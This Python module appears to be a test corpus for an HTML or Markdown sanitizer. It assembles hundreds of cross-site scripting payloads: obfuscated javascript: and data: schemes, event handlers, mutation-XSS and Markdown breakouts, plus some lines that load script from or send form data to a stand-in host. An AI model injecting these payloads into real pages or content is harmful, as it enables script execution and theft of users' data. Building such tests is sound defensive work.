"""What nobody should write: families of attacks on a page through its text, put together from what carries them and what disguises them."""

from __future__ import annotations

CODE = "alert(1)"
# A scheme that runs something, as browsers still read it and filters may not.
SCHEMES = (
    "javascript:", "JAVASCRIPT:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "\njavascript:", "\x01javascript:", "\x0bjavascript:", "\u00a0javascript:",
    "\u2028javascript:", "\ufeffjavascript:", "java\tscript:", "java\nscript:", "java\rscript:", "java\x00script:", "java\u200bscript:", "java\\script:",
    "javascript\t:", "javascript :", "&#106;avascript:", "&#x6a;avascript:", "&#x6A;avascript:", "&#0000106;avascript:", "java&#115;cript:",
    "javascript&#58;", "javascript&#x3a;", "javascript&colon;", "java&Tab;script:", "java&NewLine;script:", "java&#9;script:", "java&#10;script:",
    "java&#13;script:", "&#1;javascript:", "&#32;javascript:", "%6aavascript:", "%6A%61vascript:", "javascript%3a", "java%0ascript:", "java%09script:",
    "j\u0430vascript:", "\uff4aavascript:", "javascript://e.example/%0a", "javascript:/*https://*/", "view-source:javascript:", "jar:javascript:",
    "vbscript:", "VbScRiPt:", "vb\tscript:", "&#118;bscript:", "livescript:", "mocha:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:text/html,", "data:image/svg+xml,<svg onload=alert(1)>", "data:application/xhtml+xml,", "&#100;ata:text/html,", "dat\na:text/html,", "blob:https://e.example/",
    "filesystem:https://e.example/", "file:///etc/passwd#", "ms-msdt:/id", "intent://e.example/#", "chrome://settings/", "about:blank#", "tel:1;", "ftp://e.example/",
    "feed:javascript:", "x-javascript:", "ws://e.example/",
)  # fmt: skip
# How Markdown brings an address to a page; `%s` is where it stands.
LINKS = ("[x](%s)", "[x](<%s>)", '[x](%s "a title")', "[x]\n\n[x]: %s", "![x](%s)", "<%s>", "[![x](https://e.example/a.png)](%s)")
HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus autofocus", "onpointerenter", "ontoggle", "onanimationstart", "onbeforetoggle", "oncontentvisibilityautostatechange",
    "ONERROR", "oNeRrOr", "onerror\n", "onerror\t", "/onerror", "\x0conerror", "on\x00error", "onscrollend", "onwheel", "oncopy",
)  # fmt: skip
ELEMENTS = (
    "<img src=x %s=alert(1)>", "<svg %s=alert(1)>", "<details open %s=alert(1)>x</details>", "<video><source %s='alert(1)'></video>", "<b style=animation-name:x %s=alert(1)>x</b>",
)  # fmt: skip
SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt >alert(1)</sCrIpT >", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>",
    "<script src=//e.example/x.js></script>", "<script type=module>import '//e.example'</script>", "<script>alert(1)", "<script>alert(1)//", "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script ~~~>alert(1)</script ~~~>", "\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&amp;lt;script&amp;gt;alert(1)", "%3Cscript%3Ealert(1)", "\\<script>alert(1)\\</script>",
    "</p><script>alert(1)</script>", "</article></main></body><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}",
)  # fmt: skip
ELEMENTS_THAT_ACT = (
    "<base href=//e.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta charset=utf-7>+ADw-script+AD4-", "<form action=//e.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<input type=image src=x formaction=javascript:alert(1)>", "<isindex action=javascript:alert(1)>", "<form id=x></form><button form=x>x</button>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>", "<frameset><frame src=javascript:alert(1)></frameset>", "<portal src=//e.example>", "<link rel=stylesheet href=//e.example>", "<link rel=import href=//e.example>",
    "<a href=javascript:alert(1)>x</a>", "<a xlink:href=javascript:alert(1)>x</a>", "<area href=javascript:alert(1)>", "<a href='https://e.example' ping='https://e.example'>x</a>", "<a target=_blank href=//e.example>x</a>",
    "<img srcset='x 1x, javascript:alert(1) 2x'>", "<video poster=javascript:alert(1)></video>", "<audio src=x onerror=alert(1)>", "<table background=javascript:alert(1)>", "<body background=javascript:alert(1)>",
    "<marquee onstart=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<dialog open onclose=alert(1)>", "<slot onslotchange=alert(1)>", "<x-widget onclick=alert(1)>", "<input type=hidden name=csrfmiddlewaretoken value=x>",
    "<textarea><script>alert(1)</script>", "<template shadowrootmode=open><script>alert(1)</script></template>", "<xmp><script>alert(1)</script></xmp>", "<plaintext>", "<listing>", "<noembed><script>alert(1)</script>",
    "<fencedframe src=x>", "<b id=location name=location>", "<a id=x><a id=x name=y href=1>", "<form id=document><input name=cookie>", "<bdo dir=rtl>", "<img src=https://e.example/pixel.gif>",
)  # fmt: skip
STYLES = (
    "<style>*{background:url(//e.example)}</style>", "<style>@import '//e.example';</style>", "<p style=background:url(javascript:alert(1))>x</p>", "<p style=position:fixed;inset:0>x</p>",
    "<div style='width:expression(alert(1))'>", "<p style=-moz-binding:url(//e.example)>x</p>", "<p class=visually-hidden>x</p>", "<style>input[value^=a]{background:url(//e.example/a)}</style>",
    "<style></style><img src=x onerror=alert(1)>", "<style><!--</style><script>alert(1)//--></script>", "<p style='behavior:url(x)'>x</p>", "<font color=red size=7>x</font>", "<svg><style>{-o-link:'javascript:alert(1)'}</style></svg>",
)  # fmt: skip
FOREIGN = (
    "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>", "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>", "<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>", "<svg><image href=x onerror=alert(1)>",
    "<math><a href=javascript:alert(1)>x</a></math>", "<math href=javascript:alert(1)>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>", "<svg><discard onbegin=alert(1)>", "<svg><handler type=text/javascript>alert(1)</handler></svg>", "<?xml-stylesheet href='javascript:alert(1)'?>",
)  # fmt: skip
# What changes its meaning when a browser reads it a second time.
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<svg><desc><title><style><img title='</style><img src=x onerror=alert(1)>'>", "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><td><select><iframe></select><img src=x onerror=alert(1)>", "<p><svg><p><style><a id='</style><img src=x onerror=alert(1)>'>", "<a/href='x'/title='`<img src=x onerror=alert(1)>`'>", "``<img src='`` onerror=alert(1)//`>",
    "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>", "<!-><img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>", "<svg><![CDATA[</svg><script>alert(1)</script>]]>",
    "<!DOCTYPE html [<!ENTITY x '<script>'>]>&x;", "<%<!--'%><script>alert(1);</script -->", "<![if gte IE 4]><script>alert(1)</script><![endif]>", "<x\x0conclick=alert(1)>x", "<a\x00href=javascript:alert(1)>x</a>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>", "<textarea/><img src=x onerror=alert(1)>", "</ script><img src=x onerror=alert(1)>", "<p title=\"&quot;><img src=x onerror=alert(1)>\">",
)  # fmt: skip
# What Markdown itself makes of signs that break out of where they stand.
MARKDOWN = (
    '[x](https://e.example "onmouseover=alert(1)")', "[x](https://e.example 'a\" onload=\"b')", '[x](https://e.example/" onclick="alert(1))', '[x](https://e.example/"><script>alert(1)</script>)',
    '![x" onerror="alert(1)](https://e.example/a.png)', '![x](https://e.example/a.png"onerror="alert(1))', "![<script>alert(1)</script>](https://e.example/a.png)", "[<img src=x onerror=alert(1)>](https://e.example)",
    "[a]: https://e.example '</a><script>alert(1)</script>'\n\n[a]", "[a]: <javascript:alert(1)>\n\n[a][]", "[__proto__]: javascript:alert(1)\n\n[__proto__]", "[x]( javascript:alert(1) 'y' )", "[x](javascript:alert&lpar;1&rpar;)",
    "```html onload=alert(1)\nx\n```", "```\"><script>alert(1)</script>\nx\n```", "~~~ javascript:alert(1)\nx\n~~~", "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```", "`<img src=x onerror=alert(1)>`", "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>", "<img src=x\nonerror=alert(1)>\n===", "| a |\n|:-:|\n| <script>alert(1)</script> |", "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| 1 | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>", "> [x](javascript:alert(1))", "- <iframe src=x>", "1) <object data=x>", "* * <script>alert(1)</script>", "***<script>alert(1)</script>***", "~~<svg onload=alert(1)>~~",
    "https://e.example/<script>alert(1)</script>", 'https://e.example/"onmouseover="alert(1)', "https://e.example/'onmouseover='alert(1)", "https://user:pass@e.example/\"><img src=x>", "https://e.example/`<b>`", "http://[::1]/<script>",
    "<https://e.example/\"onmouseover=alert(1)>", "<a@b.example\"onclick=alert(1)>", "<mailto:a@b.example?body=<script>>", "[x](mailto:a@b.example?subject=\"><script>alert(1)</script>)", "[x](//e.example)", "[x](/\\e.example)", "[x](\\\\e.example)",
    "@<script>alert(1)</script>", "@Rosa <b>Tiller</b>", "[@Rosa Tiller](javascript:alert(1))", "@Rosa Tiller\" onclick=\"alert(1)", "\\[x](javascript:alert(1))", "[x\\](javascript:alert(1))", "[x][y](javascript:alert(1))", "![](javascript:alert(1))[](javascript:alert(1))",
)  # fmt: skip
UNCLOSED = ("<script", "<script ", "<img src=x onerror=alert(1)", "<img src='", '<img src="x', "<a href=\"https://e.example", "<!--", "<style>", "<title>", "<textarea>", "<svg>", "<![CDATA[", "<?", "<!", "</", "<", "&#", "&#x", "&", "[x](",
            "[x](javascript:", "[x](<javascript:", "![x](", "[x]:", "```", "```\n<script>", "`<script>", "**<b", "| a |\n|---|\n| <b", "> > > <b")  # fmt: skip

FAMILIES: dict[str, tuple[str, ...]] = {
    **{f"link {carrier!r}": tuple(carrier % (scheme + CODE) for scheme in SCHEMES) for carrier in LINKS},
    "handlers": tuple(element % handler for element in ELEMENTS for handler in HANDLERS),
    "scripts": SCRIPTS,
    "elements that act": ELEMENTS_THAT_ACT,
    "styles": STYLES,
    "foreign elements": FOREIGN,
    "mutations": MUTATIONS,
    "markdown": MARKDOWN,
    "unclosed": UNCLOSED,
}
ALL = tuple(dict.fromkeys(attack for family in FAMILIES.values() for attack in family))
